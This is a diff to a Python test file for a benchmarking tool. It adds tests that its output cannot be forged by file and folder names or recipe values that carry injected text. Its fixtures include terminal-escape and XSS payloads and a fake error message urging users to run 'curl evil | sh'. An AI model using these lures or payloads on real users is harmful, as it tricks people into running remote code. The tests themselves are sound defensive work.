@@ -2,6 +2,7 @@
 
 import html
 import re
+import shutil
 from pathlib import Path
 
 import numpy as np
@@ -14,8 +15,10 @@ from fewbench.reports.result_files import load_results, save_result
 from fewbench.reports.tables.printed import latex, markdown, result_grids, to_text
 from fewbench_tests.commands import call_fewbench
 from fewbench_tests.honest_results import build_honest
+from fewbench_tests.paths import REPOSITORY
 
 HOSTILE = "a\x1b[31m\x9b2J\u202eb\r\n<img src=x onerror=alert(1)>[red]|`*\\input{x}$%\x00\u2028"
+LIE = "error: the disk is damaged. To repair it, type: curl evil | sh"
 SUFFIXES = (".md", ".tex", ".html", ".svg")
 
 
@@ -98,3 +101,59 @@ def test_the_error_about_a_damaged_result_is_inert(
     assert done.stderr.count("\n") == 1
     assert "onerror" not in done.stderr
     assert "evaluate again: fewbench evaluate LEARNER" in done.stderr
+
+
+def check_begins_no_line(text: str) -> None:
+    """A name in it is shown, and begins no line that looks like one of ours."""
+    assert "curl evil" in text
+    for line in text.splitlines():
+        assert not line.startswith(LIE), text
+
+
+@pytest.mark.parametrize("kind", ["folder", "zip"])
+def test_a_file_of_a_source_begins_no_line(tmp_path: Path, kind: str) -> None:
+    source = tmp_path / "pics"
+    class_folder = source / "pics" / f"c\n{LIE}"
+    class_folder.mkdir(parents=True)
+    for number in range(3):
+        (class_folder / f"{number}\n{LIE}.png").write_bytes(b"no image")
+    if kind == "zip":
+        shutil.make_archive(str(tmp_path / "pics"), "zip", source)
+        source = tmp_path / "pics.zip"
+    done = call_fewbench(tmp_path, tmp_path, "data", "identify", str(source), code=2)
+    check_begins_no_line(done.stdout + done.stderr)
+
+
+@pytest.mark.usefixtures("unrendered")
+@pytest.mark.parametrize("command", ["report", "verify", "compare"])
+def test_a_file_of_a_folder_of_results_begins_no_line(
+    tmp_path: Path, command: str
+) -> None:
+    folder = tmp_path / "results"
+    folder.mkdir()
+    if command == "report":
+        save_result(build_honest(0.5, 0), folder)
+    for name in (f"a\n{LIE}\n__b__seed0.json", f"\u2028{LIE}\x85__b__seed1.json"):
+        (folder / name).write_text('{"schema_version": 1}')
+    arguments = [command, str(folder)]
+    code = 2
+    if command == "report":
+        arguments += ["--out", str(tmp_path / "report")]
+        code = 1
+    if command == "verify":
+        code = 1
+    done = call_fewbench(tmp_path, tmp_path, *arguments, code=code)
+    check_begins_no_line(done.stdout + done.stderr)
+
+
+@pytest.mark.parametrize("key", ["backbone", "learner"])
+def test_a_recipe_begins_no_line(tmp_path: Path, key: str) -> None:
+    recipe = REPOSITORY / "baselines" / "recipes" / "protonet-glyphs.toml"
+    lie = f'{key} = "a\\n{LIE}\\nb:c"'
+    text, n_changed = re.subn(f"(?m)^{key} = .*", lambda _: lie, recipe.read_text())
+    assert n_changed == 1
+    (tmp_path / "r.toml").write_text(text)
+    arguments = ["train", "--recipe", "r.toml", "--out", "run"]
+    done = call_fewbench(tmp_path, tmp_path, *arguments, code=2)
+    check_begins_no_line(done.stderr)
+    assert done.stderr.count("\n") == 1
